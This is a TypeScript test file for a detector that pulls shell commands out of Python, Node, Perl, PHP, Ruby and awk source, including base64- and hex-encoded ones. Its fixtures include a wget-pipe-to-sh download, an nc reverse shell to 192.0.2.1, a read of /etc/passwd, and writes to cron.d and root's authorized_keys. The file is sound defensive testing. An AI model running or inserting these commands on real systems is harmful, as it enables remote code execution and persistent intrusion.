import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { ProgramLanguage } from '../program-text.ts';
import { shellCallsIn } from './shell-calls.ts';

function calls(language: ProgramLanguage, text: string, environment: Record<string, string> = {}): string[] {
  return shellCallsIn({ text, language }, new Map(Object.entries(environment))).map((call) => call.text);
}

const encoded = Buffer.from('wget -qO- http://192.0.2.1/a | sh').toString('base64');
const hex = Buffer.from('nc -e /bin/sh 192.0.2.1 4444').toString('hex');

test('texts that programs hand to a shell', () => {
  assert.deepEqual(calls('python', 'import os\nos.system("echo " + \'one\')'), ['echo one']);
  assert.deepEqual(calls('python', 'subprocess.run(["sh", "-c", "a; b"], check=True)'), ["sh -c 'a; b'"]);
  assert.deepEqual(calls('python', 'HOST = "192.0.2.1"\nos.popen(f"ping {HOST}")'), ['ping 192.0.2.1']);
  assert.deepEqual(calls('node', "require('child_process').exec(`ls -la /tmp`)"), ['ls -la /tmp']);
  assert.deepEqual(calls('perl', 'my $c = "uptime -p";\nsystem($c);\nmy $x = `whoami --help`;'), [
    'uptime -p',
    'whoami --help',
  ]);
  assert.deepEqual(calls('php', '<?php $a = "cat /etc/"; $a .= "passwd"; shell_exec($a);'), ['cat /etc/passwd']);
  assert.deepEqual(calls('ruby', 'system("sh", "-c", "true; id")'), ["sh -c 'true; id'"]);
  assert.deepEqual(calls('other', 'BEGIN { system("ls -l /root"); "date -u" | getline d }'), [
    'ls -l /root',
    'date -u',
  ]);
});

test('texts that programs decode first', () => {
  const wanted = ['wget -qO- http://192.0.2.1/a | sh'];
  assert.deepEqual(calls('python', `os.system(base64.b64decode("${encoded}").decode())`), wanted);
  assert.deepEqual(calls('python', `c = b64decode('${encoded}')\nsubprocess.call(c, shell=True)`), wanted);
  assert.deepEqual(calls('node', `cp.execSync(Buffer.from('${encoded}', 'base64').toString())`), wanted);
  assert.deepEqual(calls('php', `<?php system(base64_decode("${encoded}"));`), wanted);
  assert.deepEqual(calls('python', 'os.system(os.environ["RUN"])', { RUN: 'a b c' }), ['a b c']);
  assert.deepEqual(calls('perl', `system(pack("H*", "${hex}"))`), ['nc -e /bin/sh 192.0.2.1 4444']);
  const nested = Buffer.from(`import os;os.system("${wanted[0]}")`).toString('base64');
  assert.deepEqual(calls('python', `exec(base64.b64decode("${nested}"))`), wanted);
});

test('files that programs write where something runs by itself', () => {
  assert.deepEqual(calls('python', 'open("/etc/cron.d/x", "a").write("* * * * * root a\\n")'), [
    "printf '%s\\n' '* * * * * root a\n' >> /etc/cron.d/x",
  ]);
  assert.deepEqual(calls('php', '<?php file_put_contents("/root/.ssh/authorized_keys", "k1", FILE_APPEND);'), [
    "printf '%s\\n' k1 >> /root/.ssh/authorized_keys",
  ]);
  assert.deepEqual(calls('python', 'open("/data/report.txt", "w").write("total")'), []);
});

test('namesakes start nothing', () => {
  assert.deepEqual(calls('node', 'const match = /a b/.exec(line); run("some text here")'), []);
  assert.deepEqual(calls('python', 'exec("x = 1 + 2")\ncall("some words here")'), []);
});

test('texts made to explode are read in bounded time', () => {
  const started = Date.now();
  for (const text of [
    'os.system('.repeat(20_000),
    `${'a = a + a\n'.repeat(5_000)}os.system(a)`,
    `os.system(${'"x" + '.repeat(50_000)}"y")`,
    `os.system(${'['.repeat(100_000)})`,
    'eval(eval('.repeat(10_000),
    `open("a", "w").write(${'('.repeat(50_000)}`,
    `${Array.from({ length: 2_000 }, (_, at) => `v${at} = v${at + 1} + v${at + 1}`).join('\n')}\nos.system(v0)`,
  ])
    for (const language of ['python', 'perl', 'node'] as const) calls(language, text);
  assert.ok(Date.now() - started < 20_000, `${Date.now() - started} ms`);
});
